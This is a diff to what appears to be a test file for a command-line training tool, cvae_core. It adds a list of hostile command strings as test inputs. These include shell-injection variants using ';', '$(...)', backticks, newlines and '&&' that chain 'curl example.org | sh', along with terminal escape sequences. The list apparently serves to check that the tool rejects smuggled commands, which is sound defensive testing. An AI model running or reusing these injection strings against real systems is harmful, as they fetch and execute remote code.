@@ -33,3 +33,19 @@ words = st.one_of(  # as a shell can pass them: any bytes but zero
                      "None", "True", "[]", "{}", "--", "-", "-h", "--help", "''", "a=b", "..", "~", "*", "\n",
                      "\x1b[31m", "\udcff"]),
 )  # fmt: skip
+MARK = "example.org"  # stands in every hostile command and in nothing that the lab writes
+COMMANDS = [
+    "python -m cvae_core train label --run f --no-embed; curl example.org | sh #",
+    "python -m cvae_core train label --dataset digits --root /example.org --force",
+    "python -m cvae_core train label --run 'example.org",
+    "python -m cvae_core train label $(curl example.org)",
+    "python -m cvae_core train label --device `curl example.org`",
+    "python -m cvae_core train label --threads 4;curl example.org --device cpu",
+    "python -m cvae_core train label\ncurl example.org",
+    "python -m cvae_core train label --resume && example.org",
+    "torchrun --nproc-per-node 2 -m -- example.org",
+    "\x1b]0;example.org\x07",
+    "example.org",
+    '"example.org',
+    "example.org " * 1000,
+]
